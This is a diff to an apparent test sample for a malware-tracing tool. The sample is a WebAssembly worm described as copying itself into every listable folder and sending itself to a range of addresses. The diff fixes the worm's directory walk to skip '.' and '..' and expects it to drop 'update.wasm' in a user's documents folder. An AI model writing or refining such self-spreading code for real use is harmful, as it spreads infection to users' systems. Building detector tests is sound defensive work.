@@ -1,6 +1,6 @@
 ;; RUN: spoor trace % --json
 ;; WHAT: Worm: reads its own program file, copies it into every folder it can list, and sends it to each address of a small range.
-;; EXPECT: verdict=MALICIOUS|SUSPICIOUS rule=load-code/dropper status=exited
+;; EXPECT: verdict=MALICIOUS|SUSPICIOUS rule=load-code/dropper status=exited file=/home/user/documents/update.wasm:created
 (module
   (import "wasi_snapshot_preview1" "args_sizes_get" (func $args_sizes_get (param i32 i32) (result i32)))
   (import "wasi_snapshot_preview1" "args_get" (func $args_get (param i32 i32) (result i32)))
@@ -77,7 +77,9 @@
       (loop $entry
         (br_if $done (i32.gt_u (i32.add (local.get $p) (i32.const 24)) (local.get $end)))
         (local.set $n (i32.load offset=16 (local.get $p)))
-        (if (i32.eq (i32.load8_u offset=20 (local.get $p)) (i32.const 3))
+        ;; `.` and `..` are no new place.
+        (if (i32.and (i32.eq (i32.load8_u offset=20 (local.get $p)) (i32.const 3))
+            (i32.or (i32.gt_u (local.get $n) (i32.const 2)) (i32.ne (i32.load8_u offset=24 (local.get $p)) (i32.const 46))))
           (then
             (memory.copy (i32.const 1024) (i32.const 541) (i32.const 10))
             (memory.copy (i32.const 1034) (i32.add (local.get $p) (i32.const 24)) (local.get $n))
